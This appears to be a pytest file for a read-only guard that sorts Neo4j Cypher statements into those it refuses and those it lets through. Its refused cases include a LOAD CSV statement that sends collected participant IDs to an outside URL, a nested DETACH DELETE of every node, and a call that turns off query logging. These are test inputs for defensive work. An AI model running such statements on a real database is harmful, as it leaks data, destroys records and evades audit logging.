"""The read-only guard's classification of statements (the server-side probes are in
tests/integration/test_lockdown.py)."""

import pytest

from illnet.errors import StatementRejected
from illnet.query import canned, guard


@pytest.mark.parametrize("statement, reason", [
    ("TERMINATE TRANSACTIONS 'neo4j-transaction-7'", "TERMINATE TRANSACTIONS"),
    ("terminate transaction $id", "TERMINATE TRANSACTION"),
    ("SHOW TRANSACTIONS", "SHOW TRANSACTIONS"),
    ("SHOW TRANSACTIONS YIELD transactionId, currentQuery WHERE currentQuery CONTAINS 'x' "
     "TERMINATE TRANSACTIONS transactionId", "SHOW TRANSACTIONS"),
    ("USE system SHOW USERS", "SHOW USERS"),
    ("ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'", "ALTER CURRENT USER"),
    ("CREATE OR REPLACE DATABASE copy", "CREATE OR REPLACE DATABASE"),
    ("GRANT ROLE admin TO bob", "GRANT R"),
    ("STOP DATABASE neo4j", "STOP DATABASE"),
    ("SHOW SETTINGS YIELD name, value", "SHOW SETTINGS"),
    ("SHOW DEFAULT DATABASE", "SHOW DEFAULT DATABASE"),
    ("LOAD CSV FROM 'http://127.0.0.1:9/x' AS row RETURN row", "LOAD CSV"),
    ("MATCH (p:Participant) WITH collect(p.participantId) AS ids\n"
     "load   csv from 'http://x/?q=' + apoc.text.join(ids, ',') AS row RETURN row", "LOAD CSV"),
    ("CALL gds.graph.export('g', {dbName: 'copy'})", "procedure gds.graph.export"),
    ("CALL `gds`.`graph`.`export`('g', {dbName: 'copy'})", "procedure gds.graph.export"),
    ("CALL gds . graph . drop('g')", "procedure gds.graph.drop"),
    ("CALL gds.graph.project('g', 'Participant', '*')", "procedure gds.graph.project"),
    ("CALL gds.graph.generate('g', 10, 2)", "procedure gds.graph.generate"),
    ("CALL gds.pageRank.mutate('g', {mutateProperty: 'r'})", "procedure gds.pagerank.mutate"),
    ("CALL gds.wcc.write('g', {writeProperty: 'c'})", "procedure gds.wcc.write"),
    ("MATCH (a)-->(b) WITH gds.graph.project('g', a, b) AS g RETURN g.nodeCount",
     "function gds.graph.project"),
    ("CALL { CALL apoc.load.json('http://127.0.0.1:9/') YIELD value RETURN value } RETURN value",
     "procedure apoc.load.json"),
    ("RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) DETACH DELETE n', {})", "function apoc.cypher"),
    ("CALL apoc.export.csv.all('out.csv', {})", "procedure apoc.export.csv.all"),
    ("CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')", "procedure dbms.setconfigvalue"),
    ("CALL db.stats.retrieve('QUERIES')", "procedure db.stats.retrieve"),
    ("CALL db.clearQueryCaches", "procedure db.clearquerycaches"),
])
def test_what_a_read_transaction_lets_through_is_refused_read_only(statement, reason):
    verdict = guard.classify(statement)
    assert not verdict.read_only
    assert reason.lower() in verdict.reason.lower()
    with pytest.raises(StatementRejected) as err:
        guard.check(statement, write=False)
    assert "read-only" in err.value.message and "--write" in err.value.hint
    guard.check(statement, write=True)  # with --write it goes to the server


@pytest.mark.parametrize("statement", [
    "MATCH (p:Participant) RETURN p.participantId, count(*)",
    "MATCH (n) WHERE n.note = 'TERMINATE TRANSACTIONS' RETURN n",   # in a string
    "MATCH (n) // SHOW TRANSACTIONS\nRETURN n",                       # in a comment
    "MATCH (n) /* LOAD CSV FROM 'http://x' */ RETURN n",
    "MATCH (n:Show) RETURN n.show AS show, n.`terminate` AS t, {grant: 1} AS m",  # names, not commands
    "CALL db.labels() YIELD label RETURN label",
    "CALL db.schema.visualization",
    "CALL dbms.components() YIELD versions RETURN versions",
    "CALL gds.graph.list() YIELD graphName RETURN graphName",
    "CALL gds.betweenness.stream('g') YIELD nodeId, score RETURN gds.util.asNode(nodeId).memberId, score",
    "CALL gds.wcc.stream.estimate('g', {}) YIELD bytesMax RETURN bytesMax",
    "RETURN gds.version() AS v, apoc.version() AS a, apoc.coll.sort([3, 1]) AS s",
    "RETURN date.truncate('month', date()) AS d, point.distance(point({x: 0, y: 0}), point({x: 1, y: 1})) AS p",
    "MATCH (n) CALL (n) { RETURN count(*) AS c } RETURN c",
    "SHOW INDEXES",
    "MATCH (n) DETACH DELETE n",  # a write: Neo4j's read transaction refuses it, not the guard
])
def test_reading_statements_pass(statement):
    assert guard.classify(statement).read_only, guard.classify(statement).reason


def test_every_canned_query_is_read_only():
    refused = {name: guard.classify(query.body).reason for name, query in canned.QUERIES.all().items()
               if not guard.classify(query.body).read_only}
    assert refused == {}
